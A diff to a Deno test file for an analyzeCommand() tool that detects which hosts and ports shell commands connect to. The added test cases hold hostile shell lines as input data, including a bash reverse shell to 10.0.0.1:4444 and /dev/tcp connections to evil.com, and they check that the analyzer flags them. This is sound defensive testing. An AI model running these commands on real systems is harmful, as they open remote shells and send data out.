@@ -56,10 +56,19 @@ Deno.test("analyzeCommand() finds the hosts and ports network programs reach", a
     ["socat TCP:evil.com:443 -", ["evil.com:443"]],
     ["openssl s_client -connect mail.example:465", ["mail.example:465"]],
     ["deno run https://deno.land/x/mod.ts", ["deno.land:443"]],
+    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ["10.0.0.1:4444"]],
+    ["exec 3<>/dev/tcp/evil.com/80", ["evil.com:80"]],
+    ["cat < /dev/udp/$HOST/53", ["<dynamic>:0"]],
   ];
   for (const [line, expected] of cases) {
     await t.step(JSON.stringify(line), () => assert.deepEqual(hosts(line), expected));
   }
+});
+
+Deno.test("analyzeCommand() reads /dev/tcp redirections as connections, not files", () => {
+  const a = ok("echo x > /dev/tcp/evil.com/80");
+  assert.deepEqual(a.writePaths, []);
+  assert.equal(a.network[0]!.program, "bash /dev/tcp");
 });
 
 Deno.test("analyzeCommand() names the program that reaches each host", () => {
